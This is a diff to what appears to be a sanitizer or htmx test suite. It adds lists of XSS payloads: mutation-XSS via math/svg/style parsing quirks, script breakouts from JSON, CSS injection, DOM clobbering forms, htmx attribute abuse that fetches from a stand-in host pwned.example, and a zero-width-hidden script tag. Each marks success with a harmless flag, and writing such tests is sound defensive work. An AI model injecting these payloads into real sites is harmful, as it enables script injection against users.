@@ -105,4 +105,42 @@ SIGNS = (
     "<img src=x onerror=window.__pwned=1>" * 400,
 )
 
-PAYLOADS = SCRIPTS + HANDLERS + FOREIGN + ADDRESSES + HTMX + OWN + STREAMS + TEMPLATES + SIGNS
+MUTATING = (
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
+    "<svg></p><style><a id='</style><img src=x onerror=window.__pwned=1>'>",
+    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea>"
+    "<path id='</textarea><img src=x onerror=window.__pwned=1>'></form>",
+    "<xmp><p title='</xmp><img src=x onerror=window.__pwned=1>'>",
+    "<svg><foreignObject><iframe srcdoc='<script>parent.__pwned=1</script>'></svg>",
+    "<svg><a><set attributeName=href to=javascript:window.__pwned=1></a></svg>",
+    "<math><maction xlink:href=javascript:window.__pwned=1>pwned</maction></math>",
+)
+IN_JSON = (
+    '"}</script><script>window.__pwned=1</script>',
+    '\\"};window.__pwned=1//',
+    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
+    '{"__proto__":{"innerHTML":"<img src=x onerror=window.__pwned=1>"}}',
+)
+IN_STYLES = (
+    "red;background:url(/pwned.css)",
+    "@import '/pwned.css';",
+    "}*{background:url(//pwned.example/x)}</style><img src=/pwned.png>",
+)
+CLOBBERING = (
+    "<img id=main name=body src=/pwned.png>",
+    "<form id=confirm action=/pwned><input name=attributes></form>",
+    "<form name=htmx action=/pwned><input name=config><input id=announcer></form>",
+)
+OTHERS_OF_HTMX = (
+    """<div hx-config='{"selfRequestsOnly":false}' hx-get=//pwned.example hx-trigger=load></div>""",
+    """<meta name=htmx-config content='{"allowEval":true}' http-equiv=pwned>""",
+    "<div hx-ext=sse sse-connect=/pwned hx-target=pwned></div>",
+    "<form data-confirm=pwned data-live=pwned data-hx-post=/pwned data-hx-trigger=load></form>",
+    "' hx-on:load='window.__pwned=1' x='",
+    "<scr\u200bipt>window.__pwned=1</scr\u200bipt>\u2067pwned\u2069",
+)
+
+PAYLOADS = (
+    *(*SCRIPTS, *HANDLERS, *FOREIGN, *ADDRESSES, *HTMX, *OWN, *STREAMS, *TEMPLATES, *SIGNS),
+    *(*MUTATING, *IN_JSON, *IN_STYLES, *CLOBBERING, *OTHERS_OF_HTMX),
+)
